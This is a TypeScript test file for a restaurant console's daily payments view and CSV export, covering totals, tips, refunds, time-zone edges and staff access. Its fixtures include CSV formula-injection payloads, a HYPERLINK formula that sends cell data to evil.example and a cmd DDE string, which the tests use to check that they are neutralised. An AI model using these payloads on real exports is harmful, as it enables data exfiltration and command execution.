import { toMinorUnits } from "@tablewise/domain/rules/money";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { staffDayCall, type StaffDay } from "@tablewise/domain/contract/staff";
import { orders, payments } from "../../db/schema";
import { importVenue, parseVenueFile } from "../../seed/import-venue";
import { fixtureVenueFile } from "../../test/fixture-venue";
import { createTestApp } from "../../test/test-app";
import { asStaff, testStaffAuthenticator } from "../../test/staff-console";
import { errorOf } from "../../test/eat-in";
import { demoStaffToken } from "../staff/staff-auth";
import { csvCell, dayCsv } from "./day-csv";

// The day's orders and money, in the venue's zone (Europe/Kyiv: UTC+2 in winter, +3
// from the last Sunday of March), and its CSV.
const evilWaiter = '=HYPERLINK("http://evil.example/?d="&A1,"x")';
let t: Awaited<ReturnType<typeof createTestApp>>;
// 00:30 on 5 March in Kyiv, still 4 March in UTC.
const now = new Date("2031-03-04T22:30:00Z");

let serial = 0;
async function order(id: string, createdAt: string, more: Partial<typeof orders.$inferInsert> = {}) {
  const at = new Date(createdAt);
  serial += 1;
  await t.db.db.insert(orders).values({
    id,
    venueId: "fx-venue",
    orderType: "inside",
    sectionName: "Hall",
    tableName: "2",
    status: "closed",
    serial,
    localId: String(serial),
    lines: [],
    createdBy: "test",
    createdAt: at,
    updatedAt: at,
    ...more,
  });
}
type PaymentInput = {
  method: "cash" | "card" | "online";
  status: (typeof payments.$inferInsert)["status"];
  amount: number;
  tip?: number;
  waiterId?: string | null;
  createdAt: string;
  settledAt?: string;
  refundedAt?: string;
};
async function payment(id: string, orderId: string, p: PaymentInput) {
  await t.db.db.insert(payments).values({
    id,
    publicId: `pub-${id}`,
    orderId,
    method: p.method,
    status: p.status,
    items: [],
    // The fixtures name decimals as the console reads them; rows hold minor units.
    amount: toMinorUnits(p.amount),
    tip: toMinorUnits(p.tip ?? 0),
    waiterId: p.waiterId ?? null,
    returnPath: "/",
    createdAt: new Date(p.createdAt),
    settledAt: p.settledAt ? new Date(p.settledAt) : null,
    refundedAt: p.refundedAt ? new Date(p.refundedAt) : null,
  });
}
const paid = (
  method: PaymentInput["method"],
  amount: number,
  at: string,
  more: Partial<PaymentInput> = {},
) => ({
  method,
  status: "paid" as const,
  amount,
  createdAt: at,
  settledAt: at,
  ...more,
});

beforeAll(async () => {
  t = await createTestApp({
    seed: "fixture",
    clock: () => now,
    app: { staffAuthenticator: testStaffAuthenticator },
  });
  const file = fixtureVenueFile();
  file.venue.tips = {
    enabled: true,
    mode: "personal",
    waiters: [
      { _id: "w-anna", name: "Anna", role: "waiter" },
      { _id: "w-evil", name: evilWaiter, role: "waiter" },
    ],
  };
  file.tables = [...(file.tables ?? []), { code: "900003", section_name: "Hall", table_name: "+1" }];
  await importVenue(t.db.db, parseVenueFile(file, "fixture"));
  await importVenue(
    t.db.db,
    parseVenueFile(
      {
        ...fixtureVenueFile({ id: "fx-other", link: "other-cafe" }),
        tables: [{ code: "900101", section_name: "Hall", table_name: "1" }],
      },
      "other",
    ),
  );
  // 4 March in Kyiv is [3 March 22:00 UTC, 4 March 22:00 UTC).
  await order("o-midnight", "2031-03-03T22:00:00Z", { tableName: "+1" });
  await payment(
    "p-cash",
    "o-midnight",
    paid("cash", 100, "2031-03-03T22:05:00Z", { tip: 10, waiterId: "w-anna" }),
  );
  await payment(
    "p-card",
    "o-midnight",
    paid("card", 50, "2031-03-04T10:00:00Z", { tip: 5, waiterId: "w-evil" }),
  );
  await order("o-delivery", "2031-03-04T12:00:00Z", { orderType: "delivery", tableName: "" });
  await payment("p-online", "o-delivery", paid("online", 80, "2031-03-04T12:01:00Z"));
  await order("o-cancelled", "2031-03-04T13:00:00Z", { status: "cancelled" });
  await payment("p-rejected", "o-cancelled", {
    method: "cash",
    status: "rejected",
    amount: 30,
    createdAt: "2031-03-04T13:01:00Z",
  });
  await order("o-split", "2031-03-04T14:00:00Z", { tableName: "1" });
  // Held at the gateway, not captured: not money yet; its tip is not counted either.
  await payment(
    "p-held",
    "o-split",
    paid("online", 40, "2031-03-04T14:05:00Z", { status: "held", tip: 4, waiterId: "w-anna" }),
  );
  // A split part refunded when its window ran out (SPEC §4).
  await payment(
    "p-refunded",
    "o-split",
    paid("online", 20, "2031-03-04T14:06:00Z", {
      status: "refunded",
      tip: 2,
      refundedAt: "2031-03-04T14:30:00Z",
    }),
  );
  // Promised cash the waiter has not confirmed.
  await payment("p-requested", "o-split", {
    method: "card",
    status: "requested",
    amount: 25,
    createdAt: "2031-03-04T14:10:00Z",
  });
  await payment("p-nowaiter", "o-split", paid("cash", 60, "2031-03-04T15:00:00Z", { tip: 6 }));
  // The edges of the day.
  await order("o-before", "2031-03-03T21:59:59Z");
  await payment("p-before", "o-before", paid("cash", 1000, "2031-03-03T21:59:59Z"));
  await order("o-late", "2031-03-04T21:59:59Z");
  await payment("p-late", "o-late", paid("cash", 7, "2031-03-04T21:59:59Z"));
  await payment("p-next", "o-late", paid("cash", 500, "2031-03-04T22:00:00Z"));
  // Another venue's money never shows.
  await order("o-other", "2031-03-04T12:00:00Z", { venueId: "fx-other" });
  await payment(
    "p-other",
    "o-other",
    paid("cash", 999, "2031-03-04T12:00:00Z", { tip: 99, waiterId: "w-anna" }),
  );
  // 30 March 2031 is 23 hours long in Kyiv: it ends at 21:00 UTC.
  await order("o-dst", "2031-03-30T20:00:00Z");
  await payment("p-dst-in", "o-dst", paid("card", 11, "2031-03-30T20:59:00Z"));
  await payment("p-dst-out", "o-dst", paid("card", 13, "2031-03-30T21:30:00Z"));
});
afterAll(() => t.close());

const manager = asStaff("fx-venue", "manager");
const get = (url: string, headers: Record<string, string> = manager) =>
  t.app.inject({ method: "GET", url, headers });
async function dayOf(date?: string, headers = manager) {
  const res = await get(`/api/staff/venues/fx-venue/day${date ? `?date=${date}` : ""}`, headers);
  expect(res.statusCode, res.body).toBe(200);
  return staffDayCall.response.parse(res.json()).data;
}

describe("the day view", () => {
  it("sums the confirmed money per method, tips per waiter, refunds and the orders of the venue's day", async () => {
    const day = await dayOf("2031-03-04");
    expect(day.date).toBe("2031-03-04");
    expect(day.currency).toBe("₴");
    expect(day.orders_count).toBe(5);
    expect(day.cancelled_count).toBe(1);
    expect(day.totals).toEqual({ cash: 167, card: 50, online: 80, all: 297 });
    expect(day.tips).toEqual([
      { waiter_id: "w-anna", waiter_name: "Anna", amount: 10 },
      { waiter_id: null, waiter_name: "No waiter", amount: 6 },
      { waiter_id: "w-evil", waiter_name: evilWaiter, amount: 5 },
    ]);
    expect(day.refunds).toEqual({ count: 1, amount: 22 });
    expect(day.payments.map((p) => [p.amount, p.status])).toEqual([
      [100, "paid"],
      [50, "paid"],
      [80, "paid"],
      [30, "rejected"],
      [40, "held"],
      [20, "refunded"],
      [25, "requested"],
      [60, "paid"],
      [7, "paid"],
    ]);
    const first = day.payments[0]!;
    expect(first).toMatchObject({
      at: "2031-03-03T22:05:00.000Z",
      order_type: "inside",
      table_name: "+1",
      method: "cash",
      tip: 10,
      refunded: 0,
      waiter_name: "Anna",
    });
    expect(day.payments.find((p) => p.method === "online" && p.amount === 80)).toMatchObject({
      order_type: "delivery",
      table_name: null,
    });
    expect(day.payments.find((p) => p.status === "refunded")?.refunded).toBe(22);
  });

  it("names each payment's order by id, and an eat-in one's hall, so the console links and tells tables apart", async () => {
    const day = await dayOf("2031-03-04");
    expect(day.payments[0]).toMatchObject({ order_id: "o-midnight", section_name: "Hall", table_name: "+1" });
    expect(day.payments.find((p) => p.amount === 80)).toMatchObject({
      order_id: "o-delivery",
      order_type: "delivery",
      section_name: null,
    });
  });

  it("is the venue's wall-clock day: today at 00:30 in Kyiv is the 5th, and a DST day has 23 hours", async () => {
    const today = await dayOf();
    expect(today.date).toBe("2031-03-05");
    expect(today.totals).toEqual({ cash: 500, card: 0, online: 0, all: 500 });
    expect(today.orders_count).toBe(0);
    expect((await dayOf("2031-03-03")).totals.cash).toBe(1000);
    expect((await dayOf("2031-03-30")).totals.card).toBe(11);
    expect((await dayOf("2031-03-31")).totals.card).toBe(13);
  });

  it("answers zeros for a day with nothing, 400 for a date that is not one", async () => {
    expect(await dayOf("2031-01-01")).toEqual({
      date: "2031-01-01",
      currency: "₴",
      orders_count: 0,
      cancelled_count: 0,
      totals: { cash: 0, card: 0, online: 0, all: 0 },
      tips: [],
      refunds: { count: 0, amount: 0 },
      adjustments: {
        unpaid: { count: 0, amount: 0 },
        void: { count: 0, amount: 0 },
        comp: { count: 0, amount: 0 },
        discount: { count: 0, amount: 0 },
        list: [],
      },
      payments: [],
    });
    for (const bad of ["2031-02-30", "yesterday", "2031-3-4"]) {
      const res = await get(`/api/staff/venues/fx-venue/day?date=${bad}`);
      expect(res.statusCode, bad).toBe(400);
      expect(errorOf(res).code).toBe("validation_failed");
    }
  });

  it("is the manager's and the waiters', not the kitchen's nor another venue's", async () => {
    expect((await dayOf("2031-03-04", asStaff("fx-venue", "waiter"))).totals.all).toBe(297);
    expect((await get("/api/staff/venues/fx-venue/day", asStaff("fx-venue", "kitchen"))).statusCode).toBe(
      403,
    );
    expect((await get("/api/staff/venues/fx-venue/day", asStaff("fx-other", "manager"))).statusCode).toBe(
      403,
    );
    expect((await get("/api/staff/venues/fx-venue/day", {})).statusCode).toBe(401);
    // The service credential (a POS) is venue-wide: an unknown venue is 404 to it.
    const service = { authorization: `Bearer ${demoStaffToken}` };
    expect((await get("/api/staff/venues/nowhere/day", service)).statusCode).toBe(404);
    expect((await dayOf("2031-03-04", service)).totals.all).toBe(297);
  });
});

// Every piece of every row when a reader splits on `,`, on `;` and on any line break (quotes ignored, as a
// naive reader does) whose text, past spaces and quotes, starts a formula; a number (the amounts) is none.
function formulaCells(rows: string[]): string[] {
  return rows
    .flatMap((row) => row.split(/[,;\r\n]/))
    .map((piece) => piece.replace(/^[ "]*/, ""))
    .filter((piece) => /^[=+\-@\t\r]/.test(piece) && !/^-?\d+(\.\d+)?$/.test(piece));
}

describe("the day's CSV (DESIGN.md §6)", () => {
  const csvUrl = "/api/staff/venues/fx-venue/day.csv?date=2031-03-04";

  it("lists the same payments, RFC 4180 quoted, UTF-8 with a BOM, formulas neutralised", async () => {
    const res = await get(csvUrl);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toBe('attachment; filename="fixture-cafe-2031-03-04.csv"');
    expect(res.headers["cache-control"]).toBe("private, no-store");
    const bytes = res.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString("utf8").slice(1).split("\r\n");
    expect(lines.pop()).toBe("");
    expect(lines[0]).toBe("time,order,type,table,waiter,method,status,amount,tip,refunded,currency");
    expect(lines).toHaveLength(10);
    // The table "+1" and the waiter named as a formula are text; the formula's quotes are doubled.
    expect(lines[1]).toBe("2031-03-03T22:05:00.000Z,1,inside,'+1,Anna,cash,paid,100,10,0,₴");
    expect(lines[2]).toBe(
      `2031-03-04T10:00:00.000Z,1,inside,'+1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""x"")",card,paid,50,5,0,₴`,
    );
    expect(lines.some((l) => l.includes(",=") || l.includes(",+") || l.includes(',"='))).toBe(false);
    expect(formulaCells(lines)).toEqual([]);
    expect(lines[3]).toBe("2031-03-04T12:01:00.000Z,2,delivery,,,online,paid,80,0,0,₴");
  });

  it("is the manager's only", async () => {
    expect((await get(csvUrl, asStaff("fx-venue", "waiter"))).statusCode).toBe(403);
    expect((await get(csvUrl, asStaff("fx-other", "manager"))).statusCode).toBe(403);
    expect((await get("/api/staff/venues/fx-venue/day.csv?date=2031-02-30")).statusCode).toBe(400);
    const empty = await get("/api/staff/venues/fx-venue/day.csv?date=2031-01-01");
    expect(empty.rawPayload.toString("utf8")).toBe(
      "\uFEFFtime,order,type,table,waiter,method,status,amount,tip,refunded,currency\r\n",
    );
  });

  it("leaves no formula where a spreadsheet splits on ; (or on , or a line break inside a quoted field)", () => {
    const hostile = [
      "T9;=cmd|' /C calc'!A0",
      "a,=1+1",
      'x; "=HYPERLINK(""http://evil.example"")',
      "ok;+1;-1;@SUM(A1)",
      "two\r\n=lines",
      "one\n@line",
      "tab;\t=1",
      "cr;\r=1",
      "; =spaced",
    ];
    const day: StaffDay = {
      date: "2031-03-04",
      currency: "=1+1",
      orders_count: 1,
      cancelled_count: 0,
      totals: { cash: 0, card: 0, online: 0, all: 0 },
      tips: [],
      refunds: { count: 0, amount: 0 },
      payments: hostile.map((text, i) => ({
        at: "2031-03-04T10:00:00.000Z",
        order_serial: i + 1,
        order_type: text,
        table_name: text,
        method: "cash",
        status: text,
        amount: -100,
        tip: 0,
        refunded: 0,
        waiter_name: text,
      })),
    };
    const csv = dayCsv(day);
    expect(csv).toContain(`"T9;'=cmd|' /C calc'!A0"`);
    expect(formulaCells(csv.slice(1).split("\r\n"))).toEqual([]);
  });

  it("neutralises every formula start OWASP names, and only strings", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"])
      expect(csvCell(`${start}1`).replace(/^"/, "")).toMatch(/^'/);
    expect(csvCell("-5")).toBe("'-5");
    expect(csvCell("a\r\nb")).toBe('"a\r\nb"');
    expect(csvCell('say "hi", ok')).toBe('"say ""hi"", ok"');
    expect(csvCell(12.5)).toBe("12.5");
    expect(csvCell(null)).toBe("");
    expect(csvCell("Олена")).toBe("Олена");
  });
});
